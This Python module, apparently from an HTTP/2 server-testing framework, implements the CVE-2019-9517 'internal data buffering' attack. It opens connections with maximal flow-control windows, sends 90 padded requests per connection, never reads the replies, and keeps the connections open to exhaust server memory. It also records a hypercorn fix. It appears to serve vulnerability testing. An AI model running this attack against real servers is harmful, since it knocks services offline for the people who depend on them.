"""Internal data buffering (CVE-2019-9517): the largest flow-control windows and large requests, never
reading, on connection after connection, each kept open: the server's answers fill the TCP buffers and
then whatever it queues in memory behind them (RFC 9113 section 10.5: an endpoint bounds what it buffers).
Each connection stays under MAX_CONCURRENT_STREAMS (90 requests), since those streams never close. The
large answer is the reflection route's, as in the data dribble."""
from hyperframe.frame import WindowUpdateFrame

from h2grid.attacks.base import Attack, Fix
from h2grid.attacks.data_dribble import PAD, reflect_request
from h2grid.attacks.hpackraw import literal, request

INITIAL_WINDOW_SIZE = 0x4
MAX_WINDOW = 2**31 - 1
REQUESTS = 89  # per connection, with the first: 90 open streams


def opening(conn) -> bytes:
    return (WindowUpdateFrame(0, window_increment=MAX_WINDOW - 65_535).serialize()
            + conn.headers(conn.stream_id(), request(conn, "GET", "/reflect") + literal(b"x-pad", b"p" * PAD, indexing=True)))


def batch(conn) -> bytes:
    if conn.state.get("sent"):
        return b""  # this connection is done: keep it open, go on with another
    conn.state["sent"] = True
    return b"".join(conn.headers(conn.stream_id(), reflect_request(conn)) for _ in range(REQUESTS))


ATTACK = Attack(
    key="internal-buffering", title="Internal data buffering", cve="CVE-2019-9517", rfc="RFC 9113 section 10.5",
    sends=f"windows at 2^31-1, then {REQUESTS + 1} GET /reflect of about 45 KB each per connection, never reading, "
          "connection after connection kept open",
    opening=opening, batch=batch, settings={INITIAL_WINDOW_SIZE: MAX_WINDOW}, reads=False,
    fixes=(Fix("hypercorn", "", "each write waits for the transport to drain (hypercorn/asyncio/tcp_server.py)"),),
)
